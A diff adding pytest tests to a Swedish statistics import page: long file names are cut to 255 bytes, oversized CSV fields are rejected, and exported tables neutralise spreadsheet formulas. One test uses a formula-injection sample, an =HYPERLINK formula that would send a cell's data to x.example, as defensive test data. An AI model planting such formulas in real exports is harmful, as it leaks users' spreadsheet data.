@@ -130,6 +130,44 @@ def test_uploaded_names_are_made_safe(name, expected):
     assert importpage.safe_name(name) == expected
 
 
+def test_a_long_upload_name_is_cut_to_what_a_file_system_takes(private_db):
+    """255 bytes is the most a file name may have; 120 Chinese characters are 360 bytes in UTF-8."""
+    name = "数据" * 150 + ".csv"
+    data = f"indikator;omrade;ar;varde\r\n{GROUPED};1490;2025;71,5\r\n".encode()
+    result = importpage.run_import(name, data, private_db, dry_run=True, overwrite=False)
+    assert result.new == 1
+    assert len(result.file_name.encode("utf-8")) <= 255 and result.file_name.endswith(".csv")
+    assert len(importpage.safe_name("å" * 300 + ".xlsx").encode("utf-8")) <= 255
+
+
+def test_a_field_over_the_csv_field_limit_is_a_swedish_rejection_not_a_crash(private_db):
+    for data in (b"x" * 200_000 + f"\nindikator;omrade;ar;varde\n{GROUPED};1490;2025;70\n".encode(),
+                 f"indikator;omrade;ar;varde\n{GROUPED};1490;2025;{'1' * 200_000}\n".encode()):
+        checked = importpage.check_upload("lang.csv", data, private_db)
+        assert checked.result is None and checked.rejected is not None
+        assert "ett fält som är längre än 131 072 tecken" in str(checked.rejected).replace("\xa0", " ")
+
+
+def test_user_given_text_in_the_downloadable_tables_is_never_a_formula():
+    """st.dataframe offers every table as CSV; a cell that starts with = + - @ opens as a formula in Excel."""
+    import pandas as pd
+
+    from shb.core.errors import ImportRejected
+    from shb.ingest.problems import Problem
+
+    log = pd.DataFrame({
+        "logged_at": [pd.Timestamp("2026-01-02 10:00", tz="UTC")] * 2, "username": ["@SUM(1+1)", "anna"],
+        "file_name": ['=HYPERLINK("http://x.example/?"&A1,"klicka").csv', "+46 data.csv"],
+        "sha256": ["ab" * 32] * 2, "rows": [1, 2], "new_values": [1, 2], "changed_values": [0, 0],
+        "unchanged_values": [0, 0], "result": ["inläst", "inläst"], "version": ["20260102T100000Z"] * 2})
+    table = importpage.log_table(log)
+    assert table.Fil.tolist() == ['\'=HYPERLINK("http://x.example/?"&A1,"klicka").csv', "'+46 data.csv"]
+    assert table.Vem.tolist() == ["'@SUM(1+1)", "anna"]
+    rejected = ImportRejected("x", (Problem(2, "-kolumn", "=40+30", "formel"), Problem(3, "varde", "-5", "negativt")))
+    problems = importpage.problems_table(rejected)
+    assert problems.Värde.tolist() == ["'=40+30", "'-5"] and problems.Kolumn.tolist() == ["'-kolumn", "varde"]
+
+
 # --- The page -------------------------------------------------------------------------------------------------------
 
 @pytest.fixture
